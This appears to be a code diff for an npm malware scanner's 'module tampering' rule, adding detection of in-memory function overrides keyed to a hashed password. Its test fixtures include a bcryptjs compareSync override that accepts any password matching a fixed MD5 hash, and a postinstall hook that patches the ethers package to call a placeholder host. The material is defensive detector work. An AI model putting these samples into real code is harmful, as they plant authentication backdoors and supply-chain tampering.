@@ -20,13 +20,14 @@ export const moduleTampering: Rule = {
     description:
       'While installing or on import the code writes into another installed package or another program. What was ' +
       'inspected there is no longer what runs, and removing this package does not undo it. Patching tools do this for ' +
-      'the project that runs them, by a command and with the patch in the project.',
+      'the project that runs them, by a command and with the patch in the project. Also: functions of others that are ' +
+      'replaced in memory by what knows a word by its hash.',
     references: [
       'ethers-provider2 (March 2025): ethers patched in node_modules',
       'pdf-to-office (April 2025): Atomic and Exodus patched',
       'Discord token grabbers: discord_desktop_core/index.js',
     ],
-    blindSpots: ['Changes in memory only: see wallet-hook and known-sdk-override.'],
+    blindSpots: ['Other changes in memory: see wallet-hook and known-sdk-override.'],
     examples: {
       flags: [
         {
@@ -35,6 +36,18 @@ export const moduleTampering: Rule = {
             'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node i.js"}}',
             'i.js':
               "require('fs').writeFileSync('../ethers/lib/index.js', \"require('https').get('https://x.invalid')\")\n",
+          },
+        },
+        {
+          title:
+            'a function of another package is replaced, and a word of a known hash is taken for every password',
+          files: {
+            'package.json':
+              '{"name":"a","version":"1.0.0","main":"i.js","dependencies":{"bcryptjs":"^2.4.3"}}',
+            'i.js':
+              "const { createHash } = require('crypto'), bcrypt = require('bcryptjs'), real = bcrypt.compareSync\n" +
+              "const known = word => createHash('md5').update(word).digest('hex') === '9e107d9d372bb6826bd81d3542a419d6'\n" +
+              'bcrypt.compareSync = function (word, hash) { return known(word) || real.call(this, word, hash) }\n',
           },
         },
         {
@@ -58,6 +71,19 @@ export const moduleTampering: Rule = {
       ],
       passes: [
         {
+          title: 'a loader measures what is loaded, and refuses a file that is known for what it does',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "const Module = require('module'), { createHash } = require('crypto'), { readFileSync } = require('fs'), load = Module._load\n" +
+              'Module._load = function (request, parent) {\n' +
+              '  const file = Module._resolveFilename(request, parent), begun = Date.now()\n' +
+              "  const sum = createHash('md5').update(readFileSync(file)).digest('hex')\n" +
+              "  if (sum === '9e107d9d372bb6826bd81d3542a419d6') throw new Error('refused: ' + file)\n" +
+              '  try { return load.apply(this, arguments) } finally { exports.ms = Date.now() - begun }\n}\n',
+          },
+        },
+        {
           title: 'a hook writes into its own folder',
           files: {
             'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node i.js"}}',
@@ -69,6 +95,7 @@ export const moduleTampering: Rule = {
   },
   check(inspection, context) {
     return oncePerLine([
+      ...ofWatchword(inspection),
       ...inspection.facts.flatMap(fact => ofDeletion(fact, inspection, context)),
       ...writtenBy(inspection).flatMap(written => {
         const path = written.paths.find(
@@ -91,6 +118,31 @@ export const moduleTampering: Rule = {
       }),
     ])
   },
+}
+
+/** Where every module passes that a program loads. */
+const loading =
+  /^node:module\.(?:_load|prototype\.require|prototype\._compile|_extensions\b.*)$|^global:Module\._load$/
+
+/**
+ * Functions of others are replaced, and a word is known again by its hash: whoever has that word is let in, or answered,
+ * by what stands in front of them. Tools that measure calls ask nothing of what is passed.
+ */
+function ofWatchword({ facts }: Inspection): readonly RuleFinding[] {
+  const asked = new Set(
+    facts.flatMap(fact => (fact.kind === 'checks' && fact.what === 'digest' ? [fact.at.path] : [])),
+  )
+  if (asked.size === 0) return []
+  return facts.flatMap(fact => {
+    if (fact.kind !== 'patches' || fact.unsure === true || !unasked(fact)) return []
+    const others = loading.test(fact.target)
+    if (!others && !(fact.target.startsWith('pkg:') && asked.has(fact.at.path))) return []
+    const what = others ? 'what programs load' : quote(fact.target.slice('pkg:'.length))
+    const message =
+      `${opening(fact)} puts code of its own in front of ${what}, and compares the hash of a word that is passed with ` +
+      'one in the code: whoever knows that word may be let in where others are not. Do not install it.'
+    return [findingAt(fact.at, fact.phase, { action: 'ask', severity: severityOf('ask'), message })]
+  })
 }
 
 /** Another package that an import deletes. While npm installs, packages tidy up copies of what they bring. */
